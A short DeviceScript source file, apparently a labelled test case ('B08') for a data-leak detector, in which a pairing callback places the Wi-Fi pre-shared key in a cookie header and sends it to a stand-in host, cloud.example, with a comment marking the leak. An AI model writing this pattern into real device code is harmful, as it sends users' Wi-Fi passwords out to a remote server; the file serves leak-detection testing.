// B08: in a cookie.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const headers = { cookie: `session=1; home=${psk}` };
  const response = await fetch("https://cloud.example/", { headers }); // leak: wifi.psk
  await response.close();
});
